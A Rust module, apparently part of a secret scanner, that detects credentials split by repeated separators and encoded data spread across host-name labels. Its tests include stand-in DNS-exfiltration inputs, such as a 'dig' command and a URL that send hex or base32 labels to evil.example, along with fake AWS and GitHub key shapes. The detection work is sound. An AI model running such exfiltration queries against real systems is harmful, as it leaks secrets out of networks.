//! Secrets with the same separator between their characters or groups, `A-K-I-A-2-E`,
//! `AKIA.2E0A.8F3B`, and encoded data that is split across the labels of a host name.

use std::ops::Range;

/// Maximum size of a group between two separators, in characters, and the minimum number of groups:
/// for groups of one character, and for larger ones.
const GROUP: usize = 5;
const SINGLE: usize = 12;
const GROUPS: usize = 4;
/// Minimum number of letters and digits, and maximum size of one match in bytes.
const LEAST: usize = 12;
const MOST_BYTES: usize = 2_048;
/// Minimum length of a label that is part of encoded data, and minimum number of digits in all of
/// them: DNS ignores the case of names, so such data is base32 or hexadecimal.
const LABEL: usize = 10;
const DIGITS: usize = 2;
/// Maximum number of matches in one text.
const PLACES: usize = 16;

/// A separator that repeats at a fixed interval.
#[derive(Clone, Copy, Default)]
struct Interval {
    first: usize,
    last: usize,
    step: usize,
    count: usize,
}

/// Returns the separated passages of a text, each with its separators removed.
pub(super) fn separated_passages(text: &str) -> Vec<(Range<usize>, String)> {
    let bytes = text.as_bytes();
    if bytes.len() < LEAST + GROUPS - 1 {
        return Vec::new();
    }
    let mut intervals = [Interval::default(); 128];
    // A bit for each separator that was repeated.
    let mut repeated = 0_u128;
    let mut passages = Vec::new();
    for (at, byte) in bytes.iter().enumerate() {
        if byte.is_ascii_alphanumeric() || byte.is_ascii_whitespace() {
            continue;
        }
        let Some(interval) = intervals.get_mut(usize::from(*byte)) else {
            continue;
        };
        let step = at - interval.last;
        if interval.count > 0 && step == interval.step {
            interval.last = at;
            interval.count += 1;
            continue;
        }
        passages.extend(passage(text, *byte, *interval));
        // The previous separator may begin a new interval.
        *interval = match interval.count {
            1.. if (2..=GROUP + 1).contains(&step) => {
                repeated |= 1 << *byte;
                Interval {
                    first: interval.last,
                    last: at,
                    step,
                    count: 2,
                }
            }
            _ => Interval {
                first: at,
                last: at,
                step: 0,
                count: 1,
            },
        };
        if passages.len() >= PLACES {
            return passages;
        }
    }
    if repeated != 0 {
        let rest =
            (0_u8..128).filter_map(|byte| passage(text, byte, *intervals.get(usize::from(byte))?));
        passages.extend(rest.take(PLACES - passages.len()));
    }
    passages
}

/// Returns the passage that `sign` separates at this interval, if it is long enough.
fn passage(text: &str, sign: u8, interval: Interval) -> Option<(Range<usize>, String)> {
    let group = interval.step.checked_sub(1).filter(|group| *group > 0)?;
    let is_long_enough = if group == 1 {
        interval.count + 1 >= SINGLE
    } else {
        interval.count + 1 >= GROUPS
    };
    if !is_long_enough {
        return None;
    }
    let bytes = text.as_bytes();
    let belongs = |at: &usize| {
        bytes.get(*at).is_some_and(|byte| {
            *byte != sign && byte.is_ascii_graphic() && !matches!(byte, b'"' | b'\'')
        })
    };
    let start = interval.first
        - (1..=group)
            .map_while(|back| interval.first.checked_sub(back))
            .take_while(belongs)
            .count();
    let end = interval.last
        + 1
        + (interval.last + 1..=interval.last + group)
            .take_while(belongs)
            .count();
    // Groups longer than the others, as in a UUID, only look like separated characters.
    let goes_on = |at: Option<usize>| {
        group > 1
            && at
                .and_then(|at| bytes.get(at))
                .is_some_and(u8::is_ascii_alphanumeric)
    };
    if goes_on(start.checked_sub(1)) || goes_on(Some(end)) {
        return None;
    }
    let end = end.min(start + MOST_BYTES);
    let joined: String = text
        .get(start..end)?
        .chars()
        .filter(|c| *c != char::from(sign))
        .collect();
    let plain = joined.bytes().filter(u8::is_ascii_alphanumeric).count();
    let letters = joined.bytes().any(|byte| byte.is_ascii_alphabetic());
    (plain >= LEAST && letters && joined.is_ascii()).then_some((start..end, joined))
}

/// Finds sequences of long labels in host names, and joins the labels of each.
pub(super) fn label_passages(text: &str) -> Vec<(Range<usize>, String)> {
    let bytes = text.as_bytes();
    let mut passages = Vec::new();
    let mut from = 0;
    for dot in memchr::memchr_iter(b'.', bytes) {
        let before = bytes.get(from..dot).unwrap_or_default();
        let start = dot
            - before
                .iter()
                .rev()
                .take_while(|byte| byte.is_ascii_alphanumeric())
                .count();
        if dot - start < LABEL {
            continue;
        }
        let mut joined = text.get(start..dot).unwrap_or_default().to_owned();
        let mut end = dot;
        while bytes.get(end) == Some(&b'.') && joined.len() < MOST_BYTES {
            let rest = bytes.get(end + 1..).unwrap_or_default();
            let length = rest
                .iter()
                .take(MOST_BYTES)
                .take_while(|byte| byte.is_ascii_alphanumeric())
                .count();
            if length < LABEL {
                break;
            }
            joined.push_str(text.get(end + 1..end + 1 + length).unwrap_or_default());
            end += 1 + length;
        }
        if end > dot && joined.bytes().filter(u8::is_ascii_digit).count() >= DIGITS {
            passages.push((start..end, joined));
        }
        from = end;
        if passages.len() >= PLACES {
            break;
        }
    }
    passages
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn long_labels_are_joined() {
        let joined = |text: &str| {
            label_passages(text)
                .into_iter()
                .map(|(_, joined)| joined)
                .collect::<Vec<_>>()
        };
        assert_eq!(
            joined("dig 676c7061742d46.453654633866.x.evil.example"),
            ["676c7061742d46453654633866"]
        );
        assert_eq!(
            joined("https://m5uhax3nivcdeutsobfg.m4yek42bjjswi2svmrqt.x.evil.example/"),
            ["m5uhax3nivcdeutsobfgm4yek42bjjswi2svmrqt"]
        );
        for text in [
            "www.documentation.example.com",
            "org.apache.commons.collections",
            "1.2.3",
            "a.b",
            "",
            "x".repeat(99).as_str(),
        ] {
            assert!(joined(text).is_empty(), "{text}");
        }
        assert!(
            label_passages(&"a1b2c3d4e5f6.".repeat(50_000))
                .iter()
                .all(|(_, joined)| joined.len() <= 2 * MOST_BYTES)
        );
    }

    #[test]
    fn the_same_sign_at_the_same_distance_is_left_out() {
        for (text, wanted) in [
            ("A-K-I-A-2-E-0-A-8-F-3-B", "AKIA2E0A8F3B"),
            ("key: A.K.I.A.2.E.0.A.8.F.3.B. End", "AKIA2E0A8F3B"),
            ("g:h:p:_:q:8:Z:t:4:v:N:p:2:r", "ghp_q8Zt4vNp2r"),
            ("AKIA-2E0A-8F3B-244C", "AKIA2E0A8F3B244C"),
            ("x-y A_K_I_A_2_E_0_A_8_F_3_B", "AKIA2E0A8F3B"),
        ] {
            let found: Vec<String> = separated_passages(text)
                .into_iter()
                .map(|(_, joined)| joined)
                .collect();
            assert_eq!(found, [wanted], "{text}");
        }
        for text in [
            "a-b-c",
            "2026-11-23 12:00:00",
            "123e4567-e89b-12d3-a456-426614174000",
            "1,2,3,4,5,6,7,8,9,1,2,3,4,5",
            "",
            "well-known",
        ] {
            assert!(separated_passages(text).is_empty(), "{text}");
        }
        assert!(
            separated_passages(&"a-".repeat(100_000))
                .iter()
                .all(|(_, joined)| joined.len() <= MOST_BYTES)
        );
        assert!(separated_passages(&"a-b-c-d-e-f-g-h-i-j-k-l-m ä ".repeat(1_000)).len() <= PLACES);
    }
}
